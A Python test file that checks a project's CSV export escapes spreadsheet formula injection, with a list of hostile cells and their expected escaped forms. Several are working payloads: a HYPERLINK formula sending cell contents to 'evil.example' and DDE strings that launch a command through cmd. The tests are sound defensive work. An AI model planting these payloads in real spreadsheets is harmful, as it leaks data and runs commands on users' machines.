"""No cell of a CSV download is a formula when Excel opens it (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest

from pomost.publish.spreadsheet import FORMULA_START, excel_csv, safe_cell

#: a cell as the data gives it -> the cell Excel gets
HOSTILE = [
    ("=1+2", "'=1+2"),
    ("=HYPERLINK(\"https://evil.example/?\"&A1, \"Kliknij\")",
     "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Kliknij\")"),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("- item; a list in a cell", "'- item; a list in a cell"),  # Excel: #NAME? — text, marked
    ("-", "'-"), ("+", "'+"), ("+ 48", "'+ 48"),
    ("-1+SUM(A1)", "'-1+SUM(A1)"), ("+48 81|calc!A0", "'+48 81|calc!A0"),
]
#: cells that are left as they are
HARMLESS = [
    (-500, "-500"), (24000, "24000"), (0, "0"),             # numbers stay numbers
    ("-500", "-500"), ("-1,5", "-1,5"), ("+5", "+5"),       # texts that are only a number
    ("+48 81 528 76 50", "+48 81 528 76 50"), ("+48 (81) 528-76-50", "+48 (81) 528-76-50"),
    ("Dotacja = 24 000 zł", "Dotacja = 24 000 zł"),         # = not at the start
    ("a-b", "a-b"), ("e-mail: biuro@example.org", "e-mail: biuro@example.org"),
    ("", ""), ("'quoted'", "'quoted'"), ("Пераходная падтрымка", "Пераходная падтрымка"),
    ("line one\nline two", "line one\nline two"),
]


def parse(raw: bytes) -> list[list[str]]:
    assert raw.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_hostile_cells_come_back_as_text_and_harmless_ones_unchanged():
    cases = HOSTILE + HARMLESS
    rows = parse(excel_csv([["column", "cell"], *([i, cell] for i, (cell, _) in enumerate(cases))]))
    assert rows[0] == ["column", "cell"]
    assert [row[1] for row in rows[1:]] == [expected for _, expected in cases]
    for cell in (row[1] for row in rows[1:]):
        assert not cell.startswith(FORMULA_START) or set(cell) <= set("0123456789 .,/()+-")


@pytest.mark.parametrize("cell,expected", HOSTILE + HARMLESS)
def test_safe_cell(cell, expected):
    assert str(safe_cell(cell)) == expected
    assert type(safe_cell(cell)) is type(cell)


def test_the_published_csv_files_have_no_formula(site):
    files = sorted(site.rglob("*.csv"))
    assert len(files) >= 4  # the grant table and the open data, in both languages
    for path in files:
        for row in parse(path.read_bytes()):
            for cell in row:
                assert not cell.startswith(FORMULA_START) or safe_cell(cell) == cell, (path, cell)
